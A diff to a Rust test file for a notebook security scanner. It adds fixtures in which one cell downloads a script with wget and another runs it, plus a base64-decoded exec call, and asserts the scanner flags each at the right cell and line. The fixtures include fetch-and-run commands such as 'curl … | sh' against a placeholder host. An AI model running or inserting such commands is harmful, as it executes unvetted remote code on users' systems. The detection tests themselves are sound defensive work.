@@ -26,6 +26,13 @@ fn the_cells_of_a_notebook_are_read_as_one_program() {
     assert!(rules(&report).contains(&"decoded-code-runs"), "{report:#?}");
     let report = notebook(&["x = 1", "%%bash\ncurl -s http://x.example/a | sh"]);
     assert!(rules(&report).contains(&"script-downloads-and-runs"), "{report:#?}");
+    // One cell fetches what another runs; the finding points to that cell, and to the line in it.
+    let report = notebook(&["!wget http://x.example/a.py", "x = 1", "import sys\n%run a.py"]);
+    let found = report.findings.iter().find(|finding| &*finding.rule == "script-downloads-and-runs").unwrap();
+    assert_eq!(found.location.pointer.as_deref(), Some("/cells/2/source/1"), "{report:#?}");
+    let report = notebook(&["x = 1", "import base64 as b\nexec(b.b64decode('aW1wb3J0IG9z'))"]);
+    let found = report.findings.iter().find(|finding| &*finding.rule == "decoded-code-runs").unwrap();
+    assert_eq!(found.location.pointer.as_deref(), Some("/cells/1/source/1"), "{report:#?}");
 }
 
 /// A JSON string.
